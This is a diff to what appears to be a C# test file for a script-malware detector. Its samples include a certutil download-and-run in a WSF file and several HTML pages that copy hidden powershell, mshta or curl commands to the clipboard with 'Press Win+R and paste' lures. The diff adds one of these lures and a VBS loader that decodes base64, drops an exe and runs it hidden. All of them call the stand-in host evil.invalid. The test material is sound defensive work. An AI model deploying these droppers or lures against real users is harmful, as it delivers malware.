@@ -23,6 +23,8 @@ public sealed class VbScriptTests
         { "a.wsf", "<job><script language=\"JScript\"><![CDATA[ var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c certutil -urlcache -f http://evil.invalid/a.exe a.exe & a.exe'); ]]></script></job>" },
         { "a.html", "<body onload=\"navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr http://evil.invalid/v|iex&quot;')\"><p>Press Win+R and paste</p></body>" },
         { "a.html", "<script>eval(atob('bmF2aWdhdG9yLmNsaXBib2FyZC53cml0ZVRleHQoJ21zaHRhIGh0dHA6Ly9ldmlsLmludmFsaWQvYS5odGEnKQ=='))</script>" },
+        { "a.html", "<button onclick=\"c()\">Verify</button><script>function c(){const t=document.createElement('textarea');t.value='cmd /c curl http://evil.invalid/a.bat -o %TEMP%\\\\a.bat && %TEMP%\\\\a.bat';document.body.append(t);t.select();document.execCommand('copy');}</script>" },
+        { "a.vbs", "Function D(s)\n Set x = CreateObject(\"Msxml2.DOMDocument.3.0\")\n Set n = x.CreateElement(\"b\")\n n.DataType = \"bin.base64\"\n n.Text = s\n D = n.nodeTypedValue\nEnd Function\nSet st = CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write D(\"TVqQAAMAAAAEAAAA//8AALgAAAA=\")\nst.SaveToFile \"C:\\Users\\Public\\a.exe\", 2\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\a.exe\", 0" },
         { "a.hta", "<script src=\"http://evil.invalid/a.js\"></script>" },
     };
 
